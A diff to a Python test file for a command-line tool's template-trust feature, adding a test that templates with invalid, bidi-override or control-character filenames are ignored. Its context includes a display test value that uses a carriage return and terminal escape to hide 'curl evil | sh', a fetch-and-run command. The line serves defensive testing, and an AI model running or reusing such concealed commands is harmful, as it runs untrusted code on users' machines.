@@ -97,6 +97,15 @@ def test_only_the_first_templates_of_a_crowded_folder_are_looked_at(tmp_path: Pa
     assert [t.name for t in trust.template_overrides(folder)] == [f"t{i:03}.j2" for i in range(trust.MAX_TEMPLATES)]
 
 
+def test_a_template_whose_name_is_not_text_is_never_looked_at(repo_root: Path) -> None:
+    folder = templates(repo_root, **{"ok.j2": "x"})
+    for raw in (b"bad\xff.j2", b"bidi\xe2\x80\xae.j2", b"ctl\x1b.j2"):
+        with open(os.path.join(os.fsencode(folder), raw), "wb") as handle:
+            handle.write(b"x")
+    assert run_leslie("trust", "--yes", cwd=repo_root).code == 0
+    assert list(trust.approved_templates(repo_root)) == ["ok.j2"]  # and the trust file stays strict JSON
+
+
 @pytest.mark.parametrize(("text", "shown"), [
     ("git status --short", "git status --short"),
     ("echo safe\r\x1b[2Kcurl evil | sh", "echo safe\\r\\x1b[2Kcurl evil | sh"),
